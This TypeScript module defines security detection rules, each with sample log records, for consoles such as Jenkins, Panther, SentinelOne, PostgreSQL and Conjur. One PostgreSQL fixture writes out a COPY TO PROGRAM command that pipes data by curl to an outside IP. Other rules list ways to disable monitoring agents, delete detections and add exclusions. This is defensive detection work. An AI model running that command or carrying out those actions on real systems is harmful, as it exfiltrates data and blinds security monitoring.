import type { Rule } from "../../rule.ts";
import { conjur, jenkins, mariadb, panther, pgaudit, sentinelone } from "../examples/consoles.ts";
import { plainRule } from "../plain-rule.ts";
import { traceRule } from "../trace-rule.ts";

const SOURCE = { sources: ["services"] } as const;

/** What looks at others, and is looked at by nobody where it no longer does. */
const NO_LONGER_WATCHED: readonly string[] = [
  ...["DELETE_LOG_SOURCE", "DELETE_SOURCE", "DELETE_S3_SOURCE", "DELETE_DESTINATION", "DELETE_ALERT_DESTINATION"],
  ...["DISABLE_LOG_SOURCE", "message_source.deactivate", "message_source.deactivate_mailboxes"],
  ...["message_source.delete", "Deleted Config"],
  ...["Agent Disabled", "Agent Decommissioned", "Agent Shut Down", "Anti Tampering Modified"],
];

const SCRIPT_RUN = plainRule({
  ...SOURCE,
  id: "service-script-run",
  title: "{identity_name} ran a script of theirs in {provider} itself: {resource|not named in the log} ({action})",
  service: "jenkins",
  actions: ["script executed", "scriptText", "script"],
  severity: "medium",
  attempted: "low",
  attack: { tactic: "Execution", technique: "T1651" },
  expected: "jobs do the work; the console is for faults, and sees every credential",
  key: "action",
  fires: ["in its console", jenkins("A groovy script was executed by user 'ann'. Origin: Script Console Controller. ")],
  quiet: ["a job is built", jenkins("/job/deploy/build by ann from 203.0.113.10")],
});

/** Consoles from which much is done at once: code that a build server runs, what others are watched with, who rules a vault. */
export const SERVICES_CONSOLES: readonly Rule[] = [
  {
    ...SCRIPT_RUN,
    fires: [...SCRIPT_RUN.fires, { name: "its page is asked", records: [jenkins("/script by ann from 203.0.113.10")] }],
  },
  plainRule({
    ...SOURCE,
    id: "service-build-server-opened",
    title: "{identity_name} changed who may come in to {provider}, and what they may do there",
    service: "jenkins",
    actions: ["configure", "configSubmit", "assignSubmit", "createAccount*", "addRole", "assignRole", "removeRole"],
    when: {
      any: [
        { field: "resource", matches: "*configureSecurity*" },
        { field: "resource", matches: "*securityRealm*" },
        { field: "resource", matches: "*role-strategy*" },
      ],
    },
    severity: "medium",
    attempted: "low",
    attack: { tactic: "Persistence", technique: "T1556" },
    expected: "set once, in code",
    key: "action",
    fires: ["its security", jenkins("/manage/configureSecurity/configure by ann")],
    quiet: ["a job", jenkins("/job/deploy/configSubmit by ann")],
  }),
  plainRule({
    ...SOURCE,
    id: "service-watching-ended",
    title: "{identity_name} took away what {provider} watches: {resource|not named in the log} ({action})",
    actions: NO_LONGER_WATCHED,
    when: { field: "provider", in: ["panther", "sublime", "carbon-black", "sentinelone"] },
    severity: "medium",
    attempted: "low",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "what is watched goes on being watched",
    fires: ["a source", panther("DELETE_LOG_SOURCE", { id: "s1" })],
    quiet: ["one is changed", panther("UPDATE_LOG_SOURCE", { id: "s1" })],
  }),
  plainRule({
    ...SOURCE,
    id: "service-detection-removed",
    title: "{identity_name} took away a detection of {provider}: {resource|not named in the log} ({action})",
    actions: [
      "DELETE_DETECTION",
      "DELETE_RULE",
      "DELETE_SCHEDULED_RULE",
      "DELETE_CORRELATION_RULE",
      "DELETE_POLICY",
      "rule.deactivate",
      "rule.delete",
      "rule.disable",
      "Custom Rule Deleted",
    ],
    when: { field: "provider", in: ["panther", "sublime", "sentinelone"] },
    severity: "low",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "detections come and go with reviews, from code",
    fires: ["one", panther("DELETE_DETECTION", { id: "d1" })],
    quiet: ["one is changed", panther("UPDATE_DETECTION", { id: "d1" })],
  }),
  plainRule({
    ...SOURCE,
    id: "service-exclusion-made",
    title: "{identity_name} told {provider} what it is not to look at: {resource|not named in the log} ({action})",
    actions: [
      ...["Hash Exclusion Added", "Path Exclusion Added", "Signer Identity Exclusion Added"],
      ...["File Type Exclusion Added", "Browser Exclusion Added", "Blocklist Hash Deleted"],
    ],
    when: { field: "provider", equals: "sentinelone" },
    severity: "low",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "exclusions come with a ticket, from whoever looks after what protects",
    fires: ["a path", sentinelone(3008, { name: "/opt/build" })],
    quiet: ["one is deleted", sentinelone(3016, { name: "/opt/build" })],
  }),
  plainRule({
    ...SOURCE,
    id: "service-code-installed",
    title: "{identity_name} brought code of others into {provider}: {resource|not named in the log} ({action})",
    actions: [
      ...["install_plugin", "install_component", "install_function", "uploadPlugin", "installPluginFromURL"],
      ...["doUploadPlugin", "installMarketplacePlugin"],
    ],
    when: { field: "provider", in: ["mysql", "jenkins", "mattermost"] },
    severity: "low",
    attack: { tactic: "Persistence", technique: "T1505" },
    expected: "plugins come with the image, or from whoever looks after the server",
    key: "action",
    fires: ["a function from a library", mariadb("CREATE FUNCTION x RETURNS int SONAME \\'u.so\\'")],
    quiet: ["a function of its own", mariadb("CREATE FUNCTION x() RETURNS int RETURN 1")],
  }),
  plainRule({
    ...SOURCE,
    id: "service-program-started",
    title: "{identity_name} let the database {resource} start a program of its machine ({action})",
    actions: ["COPY PROGRAM"],
    when: { field: "provider", equals: "postgresql" },
    severity: "high",
    attack: { tactic: "Execution", technique: "T1059" },
    expected: "tables are copied to whoever asks, and to no program",
    shows: ["resource", "src_ip"],
    falsePositives: ["A job of the server's own that packs what it copies."],
    response: [
      "Look at what was started: the log has the statement, the machine's audit the program.",
      "Take pg_execute_server_program and the rights of a superuser away from the identity.",
    ],
    fires: ["one", pgaudit("MISC,COPY", "COPY (SELECT 1) TO PROGRAM 'curl -d @- https://203.0.113.66'")],
    quiet: ["to whoever asks", pgaudit("READ,COPY", "COPY cards TO STDOUT")],
  }),
  traceRule({
    ...SOURCE,
    id: "service-first-account-used",
    title: "{identity_name}, who may do everything at {provider}, came by themselves ({action})",
    service: "conjur",
    actions: ["authenticate", "login", "fetch", "update", "add.policy", "change.policy", "remove.policy"],
    kinds: ["root"],
    attack: { tactic: "Persistence", technique: "T1078.001" },
    expected: "for setting up, and for when all else fails",
    fires: ["it takes a secret out", conjur("fetch", "user:admin")],
    quiet: ["a program does", conjur("fetch", "host:pay/api")],
  }),
];
